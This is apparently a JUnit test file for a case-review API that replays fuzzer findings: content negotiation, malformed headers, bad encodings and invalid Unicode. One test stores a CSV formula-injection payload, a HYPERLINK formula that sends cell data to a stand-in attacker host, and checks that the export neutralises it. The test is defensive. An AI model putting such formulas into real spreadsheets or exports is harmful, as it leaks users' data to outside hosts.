package uk.org.casereview.api.badinput;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import uk.org.casereview.api.support.Api;
import uk.org.casereview.api.support.ApiTest;
import uk.org.casereview.api.support.DatabaseSnapshot;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * One test per finding of the independent fuzzer (issue 15, item 5), each reproducing the request it sent. The classes
 * of input they belong to are in {@link BadInputTest} too, at every endpoint.
 */
class FuzzerFindingsTest extends ApiTest {

    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    private RequestMappingHandlerMapping mappings;

    @Test
    void aWriteAnsweredNotAcceptableRecordsNothingAndTheSameWriteWithJsonRecordsItOnce() {
        Fixtures fixtures = new Fixtures(api());
        Fixture notified = fixtures.build(Stage.RR_NOTIFIED);
        Fixture decided = fixtures.build(Stage.RR_DECIDED);
        Fixture made = fixtures.build(Stage.REC_MADE);
        Fixture accepted = fixtures.build(Stage.REC_ACCEPTED);
        Fixture complete = fixtures.build(Stage.ACTION_COMPLETE);
        String rr = "/api/v1/rapid-reviews/";
        String rec = "/api/v1/recommendations/";
        List<String[]> writes = List.of(
                new String[]{rr + notified.rapidReview + "/meetings", "{\"heldOn\":\"2025-03-10\",\"agencies\":[\"POLICE\"]}", rr + notified.rapidReview},
                new String[]{rr + decided.rapidReview + "/submission", "{\"submittedOn\":\"2025-03-21\"}", rr + decided.rapidReview},
                new String[]{rec + made.recommendation + "/response", "{\"respondedOn\":\"2025-04-02\",\"accepted\":true}", rec + made.recommendation},
                new String[]{rec + accepted.recommendation + "/actions", "{\"description\":\"Audit\",\"agency\":\"POLICE\",\"owner\":\"DI Jones\","
                        + "\"assignedOn\":\"2025-04-03\",\"dueOn\":\"2025-09-30\"}", rec + accepted.recommendation},
                new String[]{rec + complete.recommendation + "/closure", "{\"closedOn\":\"2025-06-20\",\"impactStatement\":\"Shared within a day\"}",
                        rec + complete.recommendation});
        for (String[] write : writes) {
            awaitReadModels();
            Map<String, String> tables = DatabaseSnapshot.of(jdbc);
            String timeline = api().get(write[2] + "/timeline").body();

            Api.Response html = post(write[0], write[1], "text/html");
            assertThat(html.status()).as(write[0] + ": " + html).isEqualTo(406);
            JsonNode problem = problem(html);
            assertThat(problem.path("detail").asText()).contains("application/json");
            awaitReadModels();
            assertThat(DatabaseSnapshot.differences(tables, DatabaseSnapshot.of(jdbc))).as(write[0] + ": tables changed by a 406").isEmpty();
            assertThat(api().get(write[2] + "/timeline").body()).as(write[0]).isEqualTo(timeline);

            long events = eventCount();
            Api.Response json = post(write[0], write[1], "application/json");
            assertThat(json.status()).as(write[0] + ": " + json).isIn(200, 201);
            assertThat(eventCount()).as("the retry with Accept: application/json records the fact once").isEqualTo(events + 1);
        }
    }

    @Test
    void anAcceptHeaderThatIsNotAListOfMediaTypesIsA400ProblemNamingIt() {
        String rr = new Fixtures(api()).build(Stage.RR_NOTIFIED).rapidReview;
        for (String accept : List.of("garbage", "*/*;q=x", "application/json;q=NaN")) {
            for (Api.Response response : List.of(api().get("/api/v1/rapid-reviews", accept),
                    post("/api/v1/rapid-reviews/" + rr + "/meetings", "{\"heldOn\":\"2025-03-10\",\"agencies\":[\"POLICE\"]}", accept))) {
                assertThat(response.status()).as(accept + ": " + response).isEqualTo(400);
                JsonNode problem = problem(response);
                assertThat(problem.path("detail").asText()).contains("Accept");
                assertThat(problem.path("errors").get(0).path("field").asText()).isEqualTo("Accept");
            }
        }
        assertThat(api().get("/api/v1/rapid-reviews/" + rr + "/timeline").body()).doesNotContain("meeting held");
    }

    @Test
    void aReadTheClientCannotAcceptIsA406Problem() {
        Api.Response response = api().get("/api/v1/rapid-reviews", "text/html");
        assertThat(response.status()).isEqualTo(406);
        assertThat(problem(response).path("title").asText()).isNotBlank();
    }

    @Test
    void aWildcardContentTypeOnAPostIsA415Problem() {
        String rr = new Fixtures(api()).build(Stage.RR_DECIDED).rapidReview;
        long events = eventCount();
        for (String type : List.of("*/*", "application/*")) {
            Api.Response response = api().send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/v1/rapid-reviews/" + rr + "/submission"))
                    .header("Content-Type", type).POST(HttpRequest.BodyPublishers.ofString("{\"submittedOn\":\"2025-03-21\"}")), "application/json");
            assertThat(response.status()).as(type + ": " + response).isEqualTo(415);
            assertThat(problem(response).path("detail").asText()).contains("wildcard");
        }
        assertThat(eventCount()).isEqualTo(events);
    }

    @Test
    void connectAndAnUnknownTransferEncodingAreAnsweredWithAProblemDetail() throws IOException {
        String credentials = Base64.getEncoder().encodeToString("tester:tester-secret".getBytes(StandardCharsets.UTF_8));
        for (String request : List.of(
                "CONNECT /api/v1/rapid-reviews HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic " + credentials + "\r\n\r\n",
                "POST /api/v1/rapid-reviews HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic " + credentials
                        + "\r\nContent-Type: application/json\r\nTransfer-Encoding: fuzz\r\n\r\n{}")) {
            String answer = raw(request);
            assertThat(answer).as(request).startsWith("HTTP/1.1 501");
            assertThat(answer).contains("Content-Type: application/problem+json");
            JsonNode problem = WriteEndpoints.JSON.readTree(answer.substring(answer.indexOf("\r\n\r\n") + 4));
            assertThat(problem.path("status").asInt()).isEqualTo(501);
            assertThat(problem.path("detail").asText()).contains("method");
        }
    }

    @Test
    void malformedPercentEncodingInAQueryValueIsA400NamingTheParameter() {
        for (String query : List.of("/api/v1/recommendations?sourceId=%zz", "/api/v1/recommendations?size=%zz", "/api/v1/recommendations?asOf=%zz",
                "/api/v1/audit?user=%zz", "/api/v1/overdue-actions?agency=%e9")) {
            Api.Response response = api().getRaw(query, "application/json");
            assertThat(response.status()).as(query + ": " + response).isEqualTo(400);
            String parameter = query.substring(query.indexOf('?') + 1, query.indexOf('='));
            assertThat(problem(response).path("errors").get(0).path("field").asText()).isEqualTo(parameter);
        }
    }

    @Test
    void queryParametersAndPathVariablesFollowTheRulesOfBodies() {
        Map<String, String> refused = new java.util.LinkedHashMap<>();
        for (String date : List.of("-2024-01-01", "2024-01-01Z", "2024-01-01%2B01:00", "%2B99999-01-01", "0000-01-01")) {
            refused.put("/api/v1/recommendations?asOf=" + date, "asOf");
            refused.put("/api/v1/statutory-timeliness?from=" + date, "from");
        }
        refused.put("/api/v1/recommendations?page=0x10", "page");
        refused.put("/api/v1/reports/yearly/0x7E8", "year");
        refused.put("/api/v1/recommendations?page=1&page=2", "page");
        refused.put("/api/v1/recommendations?status=%20MADE%20", "status");
        refused.put("/api/v1/recommendations?rag=red", "rag");
        refused.put("/api/v1/recommendations?asOf=", "asOf");
        refused.forEach((query, parameter) -> {
            Api.Response response = api().getRaw(query, "application/json");
            assertThat(response.status()).as(query + ": " + response).isEqualTo(400);
            assertThat(problem(response).path("errors").get(0).path("field").asText()).as(query).isEqualTo(parameter);
        });
        assertThat(problem(api().getRaw("/api/v1/recommendations?status=%20MADE%20", "application/json")).path("validCodes").toString()).contains("\"MADE\"");
        assertThat(api().get("/api/v1/recommendations?asOf=2024-01-01&page=1&status=MADE&rag=RED").status()).isEqualTo(200);
        assertThat(api().get("/api/v1/reports/yearly/2024").json().path("year").asInt()).isEqualTo(2024);
        assertThat(api().get("/api/v1/recommendations?page=16").json().path("page").asInt()).isEqualTo(16);
    }

    @Test
    void textThatIsNotValidUnicodeIsRefusedAndARealSurrogatePairIsStoredAsGiven() {
        String rr = new Fixtures(api()).build(Stage.RR_NOTIFIED).rapidReview;
        String path = "/api/v1/rapid-reviews/" + rr + "/decision";
        awaitReadModels();
        Map<String, String> tables = DatabaseSnapshot.of(jdbc);
        Api.Response lone = api().post(path, "{\"decidedOn\":\"2025-03-20\",\"decision\":\"CSPR\",\"rationale\":\"a\\ud800b\"}");
        assertThat(lone.status()).as(lone.toString()).isEqualTo(400);
        assertThat(problem(lone).path("errors").get(0).path("field").asText()).isEqualTo("rationale");
        assertThat(problem(lone).path("detail").asText()).contains("Unicode");
        awaitReadModels();
        assertThat(DatabaseSnapshot.differences(tables, DatabaseSnapshot.of(jdbc))).isEmpty();

        Api.Response pair = api().post(path, "{\"decidedOn\":\"2025-03-20\",\"decision\":\"CSPR\",\"rationale\":\"a\\ud83d\\ude00b\"}");
        assertThat(pair.status()).as(pair.toString()).isEqualTo(200);
        List<String> entries = new ArrayList<>();
        api().get(path.replace("/decision", "/timeline")).json().path("entries").forEach(entry -> entries.add(entry.path("what").asText()));
        assertThat(entries).anyMatch(what -> what.endsWith("a\uD83D\uDE00b"));
    }

    @Test
    void aCsvCellThatWouldRunAsAFormulaIsNeutralisedAndTheRecordKeepsTheText() {
        String rec = new Fixtures(api()).build(Stage.REC_ACCEPTED).recommendation;
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
        Api.Response assigned = api().post("/api/v1/recommendations/" + rec + "/actions", Map.of("description", formula, "agency", "PROBATION",
                "owner", "@SUM(1+1)", "assignedOn", "2025-04-03", "dueOn", "2025-05-01"));
        assertThat(assigned.status()).as(assigned.toString()).isEqualTo(201);

        JsonNode overdue = api().get("/api/v1/overdue-actions?agency=PROBATION&size=1000").json();
        List<String> descriptions = new ArrayList<>();
        overdue.path("items").forEach(item -> descriptions.add(item.path("description").asText()));
        assertThat(descriptions).as("stored as given").contains(formula);

        String csv = api().get("/api/v1/overdue-actions?agency=PROBATION", "text/csv").body();
        String line = csv.lines().filter(l -> l.contains(rec)).findFirst().orElseThrow();
        assertThat(line).contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",").contains(",\"'@SUM(1+1)\",");
    }

    @Test
    void everyApiMappingDeclaresWhatItProducesSoThatAcceptIsNegotiatedBeforeTheHandlerRuns() {
        List<String> undeclared = new ArrayList<>();
        mappings.getHandlerMethods().forEach((info, method) -> {
            boolean api = info.getPatternValues().stream().anyMatch(pattern -> pattern.startsWith("/api/"));
            if (api && info.getProducesCondition().isEmpty()) {
                undeclared.add(info + " " + method);
            }
        });
        assertThat(undeclared).as("mappings without produces: a write would run before a 406").isEmpty();
        assertThat(mappings.getHandlerMethods().keySet().stream().filter(info -> info.getPatternValues().stream()
                .anyMatch(pattern -> pattern.startsWith("/api/")))).hasSizeGreaterThan(30);
    }

    private Api.Response post(String path, String body, String accept) {
        return api().send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(body)), accept);
    }

    private static JsonNode problem(Api.Response response) {
        assertThat(response.contentType()).as(response.toString()).startsWith("application/problem+json");
        JsonNode problem = response.json();
        assertThat(problem.path("status").asInt()).isEqualTo(response.status());
        assertThat(problem.path("detail").asText()).isNotBlank();
        return problem;
    }

    private String raw(String request) throws IOException {
        try (Socket socket = new Socket("localhost", port)) {
            socket.setSoTimeout(10_000);
            OutputStream out = socket.getOutputStream();
            out.write(request.getBytes(StandardCharsets.UTF_8));
            out.flush();
            InputStream in = socket.getInputStream();
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
